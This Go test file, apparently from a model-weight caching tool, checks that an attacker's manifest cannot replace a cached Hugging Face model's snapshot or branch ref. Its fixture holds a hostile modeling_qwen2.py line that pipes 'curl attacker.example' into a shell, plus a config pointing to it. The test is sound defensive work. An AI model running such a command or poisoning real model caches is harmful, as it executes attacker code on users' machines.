package adversary

// Attack 1, model replacement: for an https://…/model.json reference the
// model's name and revision came from the document itself, and the queue
// laid out whatever name it got, swapping an existing snapshot. A manifest
// naming Qwen/Qwen2.5-0.5B-Instruct at the victims' commit put the
// attacker's config.json, weights and *.py where the victims load them; one
// naming its revision "main" moved the victims' refs/main to the attacker's
// files.

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io/fs"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/weightd/weightd/internal/hubtest"
	"github.com/weightd/weightd/pkg/cache"
	"github.com/weightd/weightd/pkg/prefetch"
	"github.com/weightd/weightd/pkg/ref"
	"github.com/weightd/weightd/pkg/source"
	"github.com/weightd/weightd/pkg/source/hf"
	httpsource "github.com/weightd/weightd/pkg/source/http"
)

func TestModelReplacement(t *testing.T) {
	t.Parallel()
	const victim = "Qwen/Qwen2.5-0.5B-Instruct"
	hub := hubtest.New()
	t.Cleanup(hub.Close)
	repo := hub.AddRepo(victim, map[string]hubtest.Content{
		"config.json":       hubtest.String(`{"model_type":"qwen2"}`),
		"model.safetensors": hubtest.String("the victims' weights"),
		"tokenizer.json":    hubtest.String(`{"version":"1.0"}`),
	})
	commit := repo.Resolve("main")

	store, err := cache.Open(t.TempDir(), cache.WithRetries(2, time.Millisecond))
	require.NoError(t, err)
	t.Cleanup(func() { store.Close() })
	hfSrc, err := hf.New(nil, hf.WithEndpoint(hub.URL))
	require.NoError(t, err)
	q := replaceQueue(t, store, source.Sources{ref.KindHF: hfSrc, ref.KindHTTP: httpsource.New(nil)})

	st, err := replaceFetch(t, q, "hf://"+victim+"@main")
	require.NoError(t, err)
	victimRepo := filepath.Join(store.Root(), "models", "models--Qwen--Qwen2.5-0.5B-Instruct")
	require.Equal(t, filepath.Join(victimRepo, "snapshots", commit), st.Dir)
	before := replaceTree(t, victimRepo)

	// The attacker serves manifests naming the victims' model, at their
	// commit and at their branch, with its own files.
	evil := map[string]string{
		"config.json":       `{"model_type":"qwen2","auto_map":{"AutoModelForCausalLM":"modeling_qwen2.MyModel"}}`,
		"model.safetensors": "the attacker's weights",
		"modeling_qwen2.py": "import os; os.system('curl attacker.example | sh')",
	}
	mux := http.NewServeMux()
	for _, rev := range []string{commit, "main"} {
		mux.HandleFunc("/"+rev+"/model.json", func(w http.ResponseWriter, _ *http.Request) {
			var files []string
			for p, body := range evil {
				sum := sha256.Sum256([]byte(body))
				files = append(files, fmt.Sprintf(`{"path":%q,"size":%d,"sha256":%q}`, p, len(body), hex.EncodeToString(sum[:])))
			}
			fmt.Fprintf(w, `{"name":%q,"revision":%q,"files":[%s]}`, victim, rev, strings.Join(files, ","))
		})
		for p, body := range evil {
			mux.HandleFunc("/"+rev+"/"+p, func(w http.ResponseWriter, r *http.Request) {
				http.ServeContent(w, r, p, time.Time{}, strings.NewReader(body))
			})
		}
	}
	attacker := httptest.NewServer(mux)
	t.Cleanup(attacker.Close)

	for _, rev := range []string{commit, "main"} {
		reference := attacker.URL + "/" + rev + "/model.json"
		st, err := replaceFetch(t, q, reference)
		require.Equal(t, before, replaceTree(t, victimRepo),
			"fetching %s (err %v) changed the victims' model: files, links or refs", reference, err)
		require.NoError(t, err, reference)

		// The attacker's files are laid out under a name of its own URL.
		rel, err := filepath.Rel(filepath.Join(store.Root(), "models"), st.Dir)
		require.NoError(t, err)
		host := strings.ReplaceAll(strings.TrimPrefix(attacker.URL, "http://"), ":", "-")
		require.True(t, strings.HasPrefix(rel, "models--"+host+"--"+rev+"-model.json--"), "attacker's model at %s", rel)
		for p, body := range evil {
			b, err := os.ReadFile(filepath.Join(st.Dir, p))
			require.NoError(t, err)
			require.Equal(t, body, string(b))
		}
	}

	// The victims still load their own bytes, at their commit and through
	// their branch.
	reference, err := os.ReadFile(filepath.Join(victimRepo, "refs", "main"))
	require.NoError(t, err)
	require.Equal(t, commit, string(reference))
	b, err := os.ReadFile(filepath.Join(victimRepo, "snapshots", commit, "model.safetensors"))
	require.NoError(t, err)
	require.Equal(t, "the victims' weights", string(b))
	_, err = os.Lstat(filepath.Join(victimRepo, "snapshots", commit, "modeling_qwen2.py"))
	require.ErrorIs(t, err, fs.ErrNotExist)
}

// replaceQueue runs a prefetch queue over store and src until the test
// ends.
func replaceQueue(t *testing.T, store *cache.Store, src source.Source) *prefetch.Queue {
	t.Helper()
	q := prefetch.NewQueue(store, src, prefetch.WithLogger(slog.New(slog.DiscardHandler)), prefetch.WithResolveRetries(1, 0))
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- q.Run(ctx) }()
	t.Cleanup(func() {
		cancel()
		require.NoError(t, <-done)
	})
	return q
}

// replaceFetch submits ref and waits for its job to end.
func replaceFetch(t *testing.T, q *prefetch.Queue, ref string) (prefetch.JobStatus, error) {
	t.Helper()
	j, err := q.Submit(ref, prefetch.PriorityNormal)
	require.NoError(t, err)
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	st, err := j.Wait(ctx)
	require.NotErrorIs(t, err, context.DeadlineExceeded, "job for %s stuck in %s", ref, st.State)
	return st, err
}

// replaceTree describes everything under dir: each directory, each link
// with its target and the sha256 of what it reads, each file's content.
func replaceTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	tree := map[string]string{}
	require.NoError(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		switch {
		case d.IsDir():
			tree[rel] = "dir"
		case d.Type() == fs.ModeSymlink:
			target, err := os.Readlink(p)
			if err != nil {
				return err
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			tree[rel] = fmt.Sprintf("-> %s (sha256 %x)", target, sha256.Sum256(b))
		default:
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			tree[rel] = "file " + string(b)
		}
		return nil
	}))
	return tree
}
